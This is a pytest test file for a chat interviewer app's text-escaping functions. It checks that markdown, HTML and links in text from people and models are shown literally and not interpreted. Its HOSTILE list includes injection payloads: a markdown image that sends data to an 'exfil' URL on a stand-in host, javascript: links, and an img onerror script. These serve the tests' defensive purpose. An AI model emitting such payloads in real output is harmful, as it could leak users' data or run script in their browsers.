"""Words of people and models are drawn, never interpreted."""

import pytest

from interviewer.ui.text import WORD_JOINER, authored, escaped, one_line, shortened, spoken, visible, without_markup


def as_read(markdown: str) -> str:
    """The escaped text without what was put in to escape it."""
    return markdown.replace("\\", "").replace(WORD_JOINER, "")


HOSTILE = [
    "costs $5 to $10",
    ":red[warning] and :material/delete: and :smile:",
    "![x](http://host/exfil?d=secret)",
    "[click](javascript:alert(1)) and [me](http://host)",
    "<img src=x onerror=alert(1)> <b>bold</b>",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "**bold** _em_ `code` ~~gone~~",
    "| a | b |",
    "a -> b <- c -- d",
    "http://host www.host.org me@host.org",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_shown_as_typed(text: str) -> None:
    assert as_read(escaped(text)) == text
    assert as_read(one_line(text)) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_every_mark_that_could_mean_something_is_escaped(text: str) -> None:
    markdown = escaped(text)
    for position, character in enumerate(markdown):
        if character in "$[]!<`*_#|~>":
            assert markdown[position - 1] == "\\"


def test_colons_and_arrows_are_split_from_what_would_give_them_meaning() -> None:
    assert ":smile:" not in escaped(":smile:").replace("\\", "")
    assert "->" not in escaped("a -> b").replace("\\", "")
    assert "http://" not in escaped("http://host").replace("\\", "")
    assert "www." not in escaped("www.host.org").replace("\\", "")


def test_line_breaks_and_indents_are_kept() -> None:
    assert escaped("one\n    two\n\nthree") == "one  \n\u00a0\u00a0\u00a0\u00a0two  \n\nthree".replace(
        "two  \n", "two\n"
    )


def test_one_line_has_one_line() -> None:
    assert one_line("one\n\n  two\tthree") == "one two three"


def test_control_and_direction_characters_are_dropped() -> None:
    assert visible("a\u202eb\u0000c\u200bd\r\ne") == "abcd\ne"


def test_an_image_in_a_models_reply_leaves_only_its_description() -> None:
    assert spoken("Look ![a chart](http://host/x.png) here") == "Look a chart here"


def test_authored_markdown_keeps_code_and_emphasis_and_loses_images_and_formulas() -> None:
    text = authored("Pay $5 or $6 for `SELECT $1 ![x](y)`, **now** ![x](http://host) :red[no] :smile:")
    assert r"\$5 or \$6" in text
    assert "**now**" in text
    assert "![x](http" not in text
    assert ":red[" not in text
    assert ":smile" not in text


@pytest.mark.parametrize("text", ["[x](data:y)", r"\[x](data:y)", r"\\[x](data:y)", r"\\\[x](data:y)", "!![](a)[x](b)"])
def test_no_link_or_image_of_an_author_is_left_however_it_is_escaped(text: str) -> None:
    shown = authored(text)
    for position, character in enumerate(shown):
        if character == "[":
            backslashes = len(shown[:position]) - len(shown[:position].rstrip("\\"))
            assert backslashes % 2 == 1, shown


def test_a_teaser_has_the_words_and_no_marks() -> None:
    assert without_markup("## A\n`user_id` is **big**") == "A user_id is big"


def test_a_long_text_is_cut_after_a_sentence_when_one_ends_in_time() -> None:
    assert shortened("One two three. Four five six seven.", 20) == "One two three."
    assert shortened("One two three four five", 12) == "One two…"
    assert shortened("Short.", 20) == "Short."
